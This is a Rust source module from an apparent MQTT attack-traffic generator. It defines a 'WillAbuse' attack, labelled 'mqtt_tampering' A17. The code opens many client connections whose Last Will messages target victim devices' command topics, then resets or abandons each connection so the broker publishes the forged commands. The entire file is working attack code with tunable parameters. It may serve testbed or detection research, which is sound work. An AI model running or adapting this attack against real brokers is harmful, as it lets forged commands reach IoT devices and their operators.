//! Wills as weapons: the broker publishes them for a client that is gone.

use std::time::Duration;

use clap::Args;
use serde::{Deserialize, Serialize};

use super::forge::command_topic;
use super::manner::Manner;
use super::{Deed, Meter, Place, defaults};
use crate::mqtt::packet::Will;
use crate::mqtt::session::reset;
use crate::stop::Stop;

/// Options of the wills.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct WillAbuse {
    /// Wills in all: each is a connection that breaks
    #[arg(long, default_value_t = 60)]
    pub count: u32,
    /// Payload of the will in bytes
    #[arg(long, default_value_t = 16, value_parser = clap::value_parser!(u32).range(0..=60_000))]
    pub payload: u32,
    /// Quality of service of the will
    #[arg(long, default_value_t = 2, value_parser = clap::value_parser!(u8).range(0..=2))]
    pub qos: u8,
    /// The will is retained
    #[arg(long)]
    pub retain: bool,
    /// The connection is reset instead of closed
    #[arg(long)]
    pub reset: bool,
    /// Seconds from the CONNACK to the end of the connection
    #[arg(long, default_value_t = 0.0)]
    pub stay: f64,
    /// How it goes about it
    #[command(flatten)]
    pub manner: Manner,
}

impl Default for WillAbuse {
    fn default() -> Self {
        defaults()
    }
}

impl Deed for WillAbuse {
    fn label(&self) -> (&'static str, &'static str) {
        ("mqtt_tampering", "A17")
    }

    fn secs(&self) -> u32 {
        self.manner.secs
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        let victims = place.victims();
        self.manner.work(place, stop, meter, self.count, |mut worker| {
            let payload = worker.random.text(self.payload as usize).into_bytes();
            while let Some(index) = worker.turn() {
                let name = worker.client_id(index);
                let victim = worker.random.pick(&victims).clone();
                let topic = command_topic(&victim, &mut worker.random);
                let mut hello = worker.hello(&name);
                hello.will =
                    Some(Will { topic: &topic, payload: &payload, qos: self.qos, retain: self.retain });
                if let Some(session) = worker.connect_with(&hello, &hello.encode()) {
                    let stay = Duration::from_secs_f64(self.stay.clamp(0.0, 30.0));
                    let stayed = stop.sleep(stay);
                    // Without a DISCONNECT the broker publishes the will.
                    let stream = session.into_stream();
                    worker.tell(&if self.reset { reset(stream) } else { Ok(()) });
                    if !stayed {
                        return;
                    }
                }
            }
        });
    }
}
